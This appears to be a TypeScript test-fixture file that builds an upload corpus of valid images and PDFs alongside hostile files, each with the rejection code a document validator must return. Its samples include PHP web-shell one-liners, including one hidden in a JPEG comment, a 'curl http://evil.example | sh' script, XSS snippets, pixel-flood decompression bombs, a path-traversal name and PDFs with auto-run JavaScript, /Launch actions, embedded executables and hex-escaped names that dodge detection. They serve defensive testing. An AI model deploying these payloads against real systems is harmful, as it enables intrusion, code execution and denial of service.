import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { MAX_DOCUMENT_BYTES } from '@permuta/contracts';
import type { ErrorCode } from '@permuta/contracts';

/**
 * The upload corpus, generated at test time (no binaries in the repository): valid documents
 * and bad files, each bad one with the code it must be refused with.
 */

const noise = (width: number, height: number) => {
  const pixels = Buffer.alloc(width * height * 3);
  for (let i = 0; i < pixels.length; i++) pixels[i] = (i * 7919 + (i >> 5) * 31) % 251;
  return sharp(pixels, { raw: { width, height, channels: 3 } });
};

/** A small real photo-like JPEG. */
export const jpeg = (width = 64, height = 48) => noise(width, height).jpeg().toBuffer();
/** A small real PNG. */
export const png = (width = 64, height = 48) => noise(width, height).png().toBuffer();

/** A JPEG carrying EXIF with a camera make and a GPS position (and a comment-like XMP). */
export const jpegWithGps = () =>
  noise(64, 48)
    .jpeg()
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Spy 3000', Software: 'exif-test' },
      IFD3: {
        GPSLatitudeRef: 'S',
        GPSLatitude: '23/1 33/1 1/1',
        GPSLongitudeRef: 'W',
        GPSLongitude: '46/1 38/1 1/1',
      },
    })
    .toBuffer();

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A few hundred bytes of PNG declaring `width` x `height` pixels (a decompression bomb). */
export function pixelFloodPng(width = 8000, height = 8000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc((width + 1) * 16))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real JPEG whose frame header is rewritten to declare `width` x `height` pixels. */
export async function pixelFloodJpeg(width = 10_000, height = 10_000): Promise<Buffer> {
  const bytes = Buffer.from(await jpeg(16, 16));
  for (let i = 2; i < bytes.length - 9; i++) {
    // SOF0..SOF2: FF C0..C2, length(2), precision(1), height(2), width(2)
    if (bytes[i] === 0xff && bytes[i + 1]! >= 0xc0 && bytes[i + 1]! <= 0xc2) {
      bytes.writeUInt16BE(height, i + 5);
      bytes.writeUInt16BE(width, i + 7);
      return bytes;
    }
  }
  throw new Error('no frame header found');
}

/** A PNG whose image data no longer matches its checksum. */
export async function corruptPng(): Promise<Buffer> {
  const bytes = Buffer.from(await png());
  const idat = bytes.indexOf('IDAT', 0, 'latin1');
  bytes[idat + 20] = bytes[idat + 20]! ^ 0xff;
  return bytes;
}

/** A JPEG with a comment segment (COM) holding PHP code. */
export async function jpegWithPhpComment(): Promise<Buffer> {
  const bytes = await jpeg();
  const comment = Buffer.from('<?php system($_GET["c"]); ?>', 'latin1');
  const segment = Buffer.alloc(4);
  segment[0] = 0xff;
  segment[1] = 0xfe;
  segment.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([bytes.subarray(0, 2), segment, comment, bytes.subarray(2)]);
}

/** A minimal one-file ZIP archive (stored, no compression). */
export function zip(name = 'payload.txt', content = 'hello'): Buffer {
  const fileName = Buffer.from(name);
  const data = Buffer.from(content);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const centralOffset = local.length + fileName.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, fileName, data, central, fileName, end]);
}

/** A 2x2 24-bit BMP. */
export function bmp(): Buffer {
  const rowSize = 8; // 2 pixels * 3 bytes, padded to 4
  const pixels = Buffer.alloc(rowSize * 2, 0x7f);
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54 + pixels.length, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(2, 18);
  header.writeInt32LE(2, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  header.writeUInt32LE(pixels.length, 34);
  return Buffer.concat([header, pixels]);
}

export interface PdfOptions {
  /** extra entries of the catalog dictionary (object 1) */
  catalog?: string;
  /** extra entries of the page dictionary (object 3) */
  page?: string;
  /** more objects, numbered from 5 */
  objects?: (string | Buffer)[];
  /** extra entries of the trailer dictionary */
  trailer?: string;
  /** end with %%EOF (default true) */
  eof?: boolean;
}

/** A small well-formed one-page PDF (with a correct cross-reference table). */
export function pdf(options: PdfOptions = {}): Buffer {
  const content = '0 0 1 rg 20 20 120 80 re f';
  const objects: (string | Buffer)[] = [
    `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R ${options.page ?? ''}>>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ...(options.objects ?? []),
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    const chunk = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`, 'latin1'),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    offsets.push(offset);
    parts.push(chunk);
    offset += chunk.length;
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''}>>`,
    'startxref',
    String(offset),
    options.eof === false ? '' : '%%EOF',
    '',
  ].join('\n');
  parts.push(Buffer.from(xref, 'latin1'));
  return Buffer.concat(parts);
}

/** An object stream (compressed) holding `objectBody` as object 9. */
export function objectStream(objectBody: string): Buffer {
  const header = '9 0 ';
  const data = deflateSync(Buffer.from(header + objectBody, 'latin1'));
  return Buffer.concat([
    Buffer.from(
      `<< /Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
      'latin1',
    ),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ]);
}

/** An image XObject whose raw bytes happen to contain `/JS` and `/AA` (not names: data). */
export function pdfWithBinaryLookalikes(): Buffer {
  const data = Buffer.concat([
    Buffer.from([0, 1, 2]),
    Buffer.from('/JS /AA /OpenAction '),
    Buffer.alloc(9, 0x80),
  ]);
  return pdf({
    objects: [
      Buffer.concat([
        Buffer.from(
          `<< /Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length ${data.length} >>\nstream\n`,
          'latin1',
        ),
        data,
        Buffer.from('\nendstream', 'latin1'),
      ]),
    ],
  });
}

export interface BadFile {
  /** what the test name says */
  label: string;
  fileName: string;
  bytes: () => Promise<Buffer> | Buffer;
  code: ErrorCode;
}

const text = (value: string) => () => Buffer.from(value, 'utf8');
const mz = () => {
  const bytes = Buffer.alloc(256);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  return bytes;
};
const elf = () =>
  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
const solid = () =>
  sharp({ create: { width: 16, height: 16, channels: 3, background: '#3366cc' } });

/** Every one of these must be refused with its code, storing nothing. */
/**
 * Judged by content, whatever their names say: accepted, shown under `shownAs` (the name with
 * an extension that fits the content).
 */
export const NAMED_OTHERWISE: {
  label: string;
  fileName: string;
  bytes: () => Buffer | Promise<Buffer>;
  shownAs: string;
}[] = [
  { label: 'a real PNG named .exe', fileName: 'id.exe', bytes: () => png(), shownAs: 'id.exe.png' },
  {
    label: 'a real PNG behind a right-to-left override (invoice\u202Egpj.exe)',
    fileName: 'invoice\u202Egpj.exe',
    bytes: () => png(),
    shownAs: 'invoicegpj.exe.png',
  },
  {
    label: 'a real JPEG without an extension',
    fileName: 'passport',
    bytes: () => jpeg(),
    shownAs: 'passport.jpg',
  },
  {
    label: 'a PDF named .png',
    fileName: 'photo.png',
    bytes: () => pdf(),
    shownAs: 'photo.png.pdf',
  },
  { label: 'a PNG named .pdf', fileName: 'bill.pdf', bytes: () => png(), shownAs: 'bill.pdf.png' },
  { label: 'a JPEG named .png', fileName: 'id.png', bytes: () => jpeg(), shownAs: 'id.png.jpg' },
  {
    label: 'a JPEG with no name at all',
    fileName: '',
    bytes: () => jpeg(),
    shownAs: 'document.jpg',
  },
];

export const BAD_FILES: BadFile[] = [
  // not a JPEG, PNG or PDF, whatever the name says
  {
    label: 'a Windows executable renamed .jpg',
    fileName: 'selfie.jpg',
    bytes: mz,
    code: 'DOCUMENT_TYPE',
  },
  { label: 'an ELF binary renamed .png', fileName: 'id.png', bytes: elf, code: 'DOCUMENT_TYPE' },
  {
    label: 'an HTML page renamed .png',
    fileName: 'id.png',
    bytes: text('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'),
    code: 'DOCUMENT_TYPE',
  },
  {
    label: 'an SVG with a script renamed .png',
    fileName: 'id.png',
    bytes: text(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    code: 'DOCUMENT_TYPE',
  },
  {
    label: 'an SVG with a script under its own name',
    fileName: 'id.svg',
    bytes: text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    code: 'DOCUMENT_TYPE',
  },
  {
    label: 'PHP code named .jpg',
    fileName: 'shell.jpg',
    bytes: text('<?php system($_GET["cmd"]); ?>'),
    code: 'DOCUMENT_TYPE',
  },
  {
    label: 'a shell script named .pdf',
    fileName: 'statement.pdf',
    bytes: text('#!/bin/sh\ncurl http://evil.example | sh\n'),
    code: 'DOCUMENT_TYPE',
  },
  {
    label: 'JSON named .jpg',
    fileName: 'id.jpg',
    bytes: text('{"hello":"world"}'),
    code: 'DOCUMENT_TYPE',
  },
  {
    label: 'plain text named .png',
    fileName: 'id.png',
    bytes: text('just some text\n'),
    code: 'DOCUMENT_TYPE',
  },
  {
    label: 'a ZIP archive named .pdf',
    fileName: 'bill.pdf',
    bytes: () => zip(),
    code: 'DOCUMENT_TYPE',
  },
  {
    label: 'a GIF',
    fileName: 'id.gif',
    bytes: () => solid().gif().toBuffer(),
    code: 'DOCUMENT_TYPE',
  },
  {
    label: 'a GIF renamed .png',
    fileName: 'id.png',
    bytes: () => solid().gif().toBuffer(),
    code: 'DOCUMENT_TYPE',
  },
  {
    label: 'a WebP renamed .jpg',
    fileName: 'id.jpg',
    bytes: () => solid().webp().toBuffer(),
    code: 'DOCUMENT_TYPE',
  },
  {
    label: 'a TIFF renamed .jpg',
    fileName: 'scan.jpg',
    bytes: () => solid().tiff().toBuffer(),
    code: 'DOCUMENT_TYPE',
  },
  { label: 'a BMP renamed .png', fileName: 'id.png', bytes: bmp, code: 'DOCUMENT_TYPE' },
  {
    label: 'an AVIF renamed .jpg',
    fileName: 'id.jpg',
    bytes: () => solid().heif({ compression: 'av1' }).toBuffer(),
    code: 'DOCUMENT_TYPE',
  },
  {
    label: 'a path-traversal name holding /etc/passwd',
    fileName: '../../etc/passwd.png',
    bytes: text('root:x:0:0:root:/root:/bin/bash\n'),
    code: 'DOCUMENT_TYPE',
  },
  // size
  {
    label: 'an empty file',
    fileName: 'id.jpg',
    bytes: () => Buffer.alloc(0),
    code: 'DOCUMENT_EMPTY',
  },
  {
    label: 'a file of 5 MB + 1 byte',
    fileName: 'id.jpg',
    bytes: async () => {
      const start = await jpeg();
      return Buffer.concat([start, Buffer.alloc(MAX_DOCUMENT_BYTES + 1 - start.length, 0x20)]);
    },
    code: 'DOCUMENT_TOO_LARGE',
  },
  // broken or hostile images
  {
    label: 'a truncated JPEG',
    fileName: 'id.jpg',
    bytes: async () => (await jpeg(200, 150)).subarray(0, 1500),
    code: 'DOCUMENT_CORRUPT',
  },
  {
    label: 'a truncated PNG',
    fileName: 'id.png',
    bytes: async () => {
      const bytes = await png(200, 150);
      return bytes.subarray(0, Math.floor(bytes.length / 2));
    },
    code: 'DOCUMENT_CORRUPT',
  },
  {
    label: 'a PNG failing its checksum',
    fileName: 'id.png',
    bytes: corruptPng,
    code: 'DOCUMENT_CORRUPT',
  },
  {
    label: 'a JPEG signature followed by garbage',
    fileName: 'id.jpg',
    bytes: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(200, 0x41)]),
    code: 'DOCUMENT_CORRUPT',
  },
  {
    label: 'a pixel-flood PNG (8000 x 8000 in a few hundred bytes)',
    fileName: 'id.png',
    bytes: () => pixelFloodPng(),
    code: 'DOCUMENT_IMAGE_TOO_LARGE',
  },
  {
    label: 'a pixel-flood PNG beyond the decoder limit (50000 x 50000)',
    fileName: 'id.png',
    bytes: () => pixelFloodPng(50_000, 50_000),
    code: 'DOCUMENT_IMAGE_TOO_LARGE',
  },
  {
    label: 'a JPEG declaring 10000 x 10000 pixels',
    fileName: 'id.jpg',
    bytes: () => pixelFloodJpeg(),
    code: 'DOCUMENT_IMAGE_TOO_LARGE',
  },
  // PDFs
  {
    label: 'a PDF with /JavaScript run by /OpenAction',
    fileName: 'bill.pdf',
    bytes: () =>
      pdf({ catalog: '/OpenAction 5 0 R', objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }),
    code: 'DOCUMENT_PDF_ACTIVE_CONTENT',
  },
  {
    label: 'a PDF with an /OpenAction action dictionary',
    fileName: 'bill.pdf',
    bytes: () => pdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }),
    code: 'DOCUMENT_PDF_ACTIVE_CONTENT',
  },
  {
    label: 'a PDF with an /OpenAction pointing to another object',
    fileName: 'bill.pdf',
    bytes: () => pdf({ catalog: '/OpenAction 5 0 R', objects: ['<< /S /GoTo /D [3 0 R /Fit] >>'] }),
    code: 'DOCUMENT_PDF_ACTIVE_CONTENT',
  },
  {
    label: 'a PDF with a hex-escaped /Open#41ction',
    fileName: 'bill.pdf',
    bytes: () => pdf({ catalog: '/Open#41ction << /S /GoTo /D [3 0 R /Fit] >>' }),
    code: 'DOCUMENT_PDF_ACTIVE_CONTENT',
  },
  {
    label: 'a PDF with a hex-escaped /J#61vaScript name tree',
    fileName: 'bill.pdf',
    bytes: () =>
      pdf({
        catalog: '/Names << /J#61vaScript 5 0 R >>',
        objects: ['<< /Names [(x) 6 0 R] >>', '<< /S /J#61va#53cript /J#53 (app.alert(1)) >>'],
      }),
    code: 'DOCUMENT_PDF_ACTIVE_CONTENT',
  },
  {
    label: 'a PDF page with an additional action (/AA)',
    fileName: 'bill.pdf',
    bytes: () => pdf({ page: '/AA << /O 5 0 R >>', objects: ['<< /S /GoTo /D [3 0 R /Fit] >>'] }),
    code: 'DOCUMENT_PDF_ACTIVE_CONTENT',
  },
  {
    label: 'a PDF with a /Launch action',
    fileName: 'bill.pdf',
    bytes: () =>
      pdf({
        page: '/Annots [5 0 R]',
        objects: [
          '<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Launch /F (calc.exe) >> >>',
        ],
      }),
    code: 'DOCUMENT_PDF_ACTIVE_CONTENT',
  },
  {
    label: 'a PDF with an embedded file',
    fileName: 'bill.pdf',
    bytes: () =>
      pdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
        objects: [
          '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
          '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
        ],
      }),
    code: 'DOCUMENT_PDF_ACTIVE_CONTENT',
  },
  {
    label: 'a PDF with an XFA form',
    fileName: 'bill.pdf',
    bytes: () =>
      pdf({
        catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
        objects: ['<< /Length 0 >>\nstream\n\nendstream'],
      }),
    code: 'DOCUMENT_PDF_ACTIVE_CONTENT',
  },
  {
    label: 'a PDF with /RichMedia',
    fileName: 'bill.pdf',
    bytes: () =>
      pdf({
        page: '/Annots [5 0 R]',
        objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 50 50] >>'],
      }),
    code: 'DOCUMENT_PDF_ACTIVE_CONTENT',
  },
  {
    label: 'a PDF hiding /JavaScript in a compressed object stream',
    fileName: 'bill.pdf',
    bytes: () =>
      pdf({
        catalog: '/OpenAction 9 0 R',
        objects: [objectStream('<< /S /JavaScript /JS (app.alert(1)) >>')],
      }),
    code: 'DOCUMENT_PDF_ACTIVE_CONTENT',
  },
  {
    label: 'a PDF with JavaScript appended after %%EOF (incremental update)',
    fileName: 'bill.pdf',
    bytes: () =>
      Buffer.concat([
        pdf(),
        Buffer.from(
          '1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n',
          'latin1',
        ),
      ]),
    code: 'DOCUMENT_PDF_ACTIVE_CONTENT',
  },
  {
    label: 'a PDF without %%EOF',
    fileName: 'bill.pdf',
    bytes: () => pdf({ eof: false }),
    code: 'DOCUMENT_CORRUPT',
  },
  {
    label: 'a PDF with a megabyte of junk after %%EOF',
    fileName: 'bill.pdf',
    bytes: () => Buffer.concat([pdf(), Buffer.alloc(1024 * 1024, 0x41)]),
    code: 'DOCUMENT_CORRUPT',
  },
  {
    label: 'a password-protected PDF',
    fileName: 'bill.pdf',
    bytes: () =>
      pdf({
        trailer: '/Encrypt 5 0 R /ID [<01> <01>]',
        objects: ['<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00> /U <00> >>'],
      }),
    code: 'DOCUMENT_PDF_ENCRYPTED',
  },
  {
    label: 'a PDF whose object stream uses a filter that cannot be checked',
    fileName: 'bill.pdf',
    bytes: () =>
      pdf({
        objects: [
          '<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 4 >>\nstream\nabcd\nendstream',
        ],
      }),
    code: 'DOCUMENT_CORRUPT',
  },
];
